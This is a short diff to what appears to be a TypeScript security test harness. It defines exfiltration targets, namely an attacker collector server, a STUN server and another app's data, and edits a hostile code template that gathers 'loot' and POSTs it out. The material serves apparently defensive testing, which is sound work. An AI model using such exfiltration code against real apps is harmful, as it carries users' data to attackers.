@@ -1,15 +1,15 @@
-/** Where the hostile code tries to reach. */
+/** What the hostile code tries to reach. */
 export interface Targets {
   /** A server of the attacker's: whatever arrives there has been carried out of the app. */
   readonly collector: string;
-  /** Where a connection alone tells something: the name of its host. */
+  /** An address to which a connection alone carries something out: the name of its host. */
   readonly bare: string;
   /** `host:port` of the attacker's STUN server. */
   readonly stun: string;
   readonly platform: string;
   /** Another app on the same instance, with its origin and a row that anyone may read there. */
   readonly otherApp: { readonly appId: string; readonly origin: string };
-  /** Where the app that runs the code keeps what it got at: an entity with a field `text`. */
+  /** The entity, with a field `text`, in which the app that runs the code stores what it got at. */
   readonly report: string;
 }
 
@@ -253,6 +253,7 @@ export const tried = thefts.then(async () => {
     await pause(1000);
   }
   window.loot = loot;
+  if (window.reportLoot) return window.reportLoot({ text: JSON.stringify(loot) });
   await fetch('${report}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: JSON.stringify(loot) }) });
 });
 `;
